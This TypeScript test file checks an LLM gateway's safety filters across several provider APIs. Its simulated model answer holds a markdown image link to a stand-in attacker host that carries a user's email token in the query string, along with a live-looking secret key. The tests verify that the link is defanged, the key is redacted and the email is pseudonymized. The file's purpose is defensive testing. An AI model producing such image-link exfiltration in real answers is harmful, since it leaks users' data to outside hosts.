import { createHash } from 'node:crypto'

import { nonceOf } from '@signalbox/safety'
import { simulate, type Simulator } from '@signalbox/simulator'
import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest'

import { parseConfig } from '../config/parse-config.ts'
import { createGateway, type Gateway } from '../create-gateway.ts'

const mail = 'jane.doe@example.com'
const session = 'matrix'
const key = 'a key of many letters'
const nonce = nonceOf(createHash('sha256').update(key).digest(), {
  tenant: '',
  policy: 'own',
  conversation: session,
})
const token = `<EMAIL_1_${nonce}>`
const answer = `Write to ${token} and see ![x](https://evil.example/i?d=${token}) or sk_live_4eC39HqLyjWDarjtT1zdp7dc today.`
const expected = `Write to ${mail} and see ![x](#blocked) or <SECRET> today.`

let simulator: Simulator
let gateway: Gateway

beforeAll(async () => {
  simulator = await simulate({ port: 0, seed: 1 })
  await simulator.control({ '*': { text: answer } })
  const { url } = simulator
  gateway = createGateway(
    await parseConfig({
      version: 1,
      providers: {
        chat: { adapter: 'openai', apiKey: 'k', baseUrl: `${url}/openai/v1`, api: 'chat' },
        responses: {
          adapter: 'openai',
          apiKey: 'k',
          baseUrl: `${url}/openai/v1`,
          api: 'responses',
        },
        azure: { adapter: 'azure', apiKey: 'k', baseUrl: `${url}/openai/v1` },
        messages: { adapter: 'anthropic', apiKey: 'k', baseUrl: `${url}/anthropic` },
        generate: { adapter: 'google', apiKey: 'k', baseUrl: `${url}/google` },
        ollama: { adapter: 'ollama', baseUrl: `${url}/ollama` },
        converse: {
          adapter: 'bedrock',
          region: 'us-east-1',
          apiKey: 'k',
          baseUrl: `${url}/bedrock`,
        },
        cohere: { adapter: 'cohere', apiKey: 'k', baseUrl: `${url}/cohere` },
      },
      safety: { default: 'own', key, policies: { own: { extends: 'standard' } } },
    }),
  )
})
afterAll(async () => {
  await gateway.close()
  await simulator.close()
})
beforeEach(() => simulator.clear())

interface Client {
  readonly path: (model: string, stream: boolean) => string
  readonly body: (model: string, text: string, stream: boolean) => object
  /** The text of a whole answer. */
  readonly text: (answer: unknown) => string
  /** The text of one event of a stream. */
  readonly delta: (event: unknown) => string
}

const at = (value: unknown, ...path: (string | number)[]): unknown =>
  path.reduce<unknown>(
    (node, step) =>
      typeof node === 'object' && node !== null
        ? (node as Record<string | number, unknown>)[step]
        : undefined,
    value,
  )
const str = (value: unknown): string => (typeof value === 'string' ? value : '')

const clients: Readonly<Record<string, Client>> = {
  'chat completions': {
    path: () => '/v1/chat/completions',
    body: (model, content, stream) => ({ model, stream, messages: [{ role: 'user', content }] }),
    text: (value) => str(at(value, 'choices', 0, 'message', 'content')),
    delta: (event) => str(at(event, 'choices', 0, 'delta', 'content')),
  },
  completions: {
    path: () => '/v1/completions',
    body: (model, prompt, stream) => ({ model, stream, prompt }),
    text: (value) => str(at(value, 'choices', 0, 'text')),
    delta: (event) => str(at(event, 'choices', 0, 'text')),
  },
  responses: {
    path: () => '/v1/responses',
    body: (model, input, stream) => ({ model, stream, input }),
    text: (value) =>
      ((at(value, 'output') as unknown[] | undefined) ?? [])
        .map((item) => str(at(item, 'content', 0, 'text')))
        .join(''),
    delta: (event) =>
      at(event, 'type') === 'response.output_text.delta' ? str(at(event, 'delta')) : '',
  },
  messages: {
    path: () => '/v1/messages',
    body: (model, content, stream) => ({
      model,
      stream,
      max_tokens: 400,
      messages: [{ role: 'user', content }],
    }),
    text: (value) => str(at(value, 'content', 0, 'text')),
    delta: (event) => str(at(event, 'delta', 'text')),
  },
  generate: {
    path: (model, stream) =>
      `/v1beta/models/${encodeURIComponent(model)}:${stream ? 'streamGenerateContent?alt=sse' : 'generateContent'}`,
    body: (_, text) => ({ contents: [{ role: 'user', parts: [{ text }] }] }),
    text: (value) => str(at(value, 'candidates', 0, 'content', 'parts', 0, 'text')),
    delta: (event) => str(at(event, 'candidates', 0, 'content', 'parts', 0, 'text')),
  },
}

const models = {
  chat: 'chat/gpt-4o-mini',
  responses: 'responses/gpt-4o-mini',
  azure: 'azure/gpt-4o-mini',
  messages: 'messages/claude-haiku-4-5',
  generate: 'generate/gemini-2.5-flash',
  ollama: 'ollama/llama3.2',
  converse: 'converse/amazon.nova-lite-v1:0',
  cohere: 'cohere/command-a-03-2025',
}

async function ask(client: Client, model: string, text: string, stream: boolean) {
  const response = await gateway.fetch(
    new Request(`http://gateway${client.path(model, stream)}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-signalbox-session-id': session },
      body: JSON.stringify(client.body(model, text, stream)),
    }),
  )
  const raw = await response.text()
  if (!stream || response.status !== 200)
    return { response, raw, text: client.text(JSON.parse(raw)) }
  const events = raw
    .split('\n')
    .filter((line) => line.startsWith('data: ') && line !== 'data: [DONE]')
    .map((line): unknown => JSON.parse(line.slice(6)))
  return { response, raw, text: events.map((event) => client.delta(event)).join('') }
}

interface Told {
  readonly request_id: string
  readonly stage: string
  readonly rule: string
  readonly action: string
  readonly count: number
  readonly types: readonly string[]
}

const expectedEvents = [
  'input pii pseudonymize 1 EMAIL_ADDRESS',
  'output leak redact 1 SECRET',
  'output links defang 1 LINK',
]

/** What operators are told of a request, once all of it has been told. */
async function eventsOf({ headers }: Response): Promise<readonly string[]> {
  const path = 'http://gateway/admin/v1/safety/events?limit=10'
  const told = async () => {
    const { data } = (await (await gateway.fetch(new Request(path))).json()) as {
      readonly data: readonly Told[]
    }
    return data.filter((event) => event.request_id === headers.get('x-request-id'))
  }
  const events = await vi.waitFor(async () => {
    const given = await told()
    expect(given.some(({ stage }) => stage === 'output')).toBe(true)
    return given
  })
  return events
    .map(({ stage, rule, action, count, types }) =>
      [stage, rule, action, String(count), ...types].join(' '),
    )
    .toSorted()
}

for (const [name, client] of Object.entries(clients))
  describe(`a client of ${name}`, () => {
    for (const [wire, model] of Object.entries(models))
      for (const stream of [false, true])
        test(`is governed alike over ${wire}, streamed: ${String(stream)}`, async () => {
          const { response, raw, text } = await ask(client, model, `I am ${mail}.`, stream)
          expect(response.status).toBe(200)
          expect(text).toBe(expected)
          expect(raw).not.toContain('evil.example')
          expect(raw).not.toContain('sk_live')
          expect(response.headers.get('x-signalbox-safety')).toContain('pii=pseudonymize:1')
          const [entry] = await simulator.journal()
          const sent = JSON.stringify(entry?.body)
          expect(sent).not.toContain(mail)
          expect(sent).toContain(token)
          expect(await eventsOf(response)).toEqual(expectedEvents)
        })

    test('is refused in its own envelope', async () => {
      const strict = await gateway.fetch(
        new Request(`http://gateway${client.path(models.chat, false)}`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({
            ...client.body(models.chat, 'x', false),
            deep: { a: nest(70) },
          }),
        }),
      )
      expect(strict.status).toBe(400)
      expect(await simulator.journal()).toHaveLength(0)
    })
  })

function nest(depth: number): unknown {
  let value: unknown = 'leaf'
  for (let level = 0; level < depth; level++) value = [value]
  return value
}
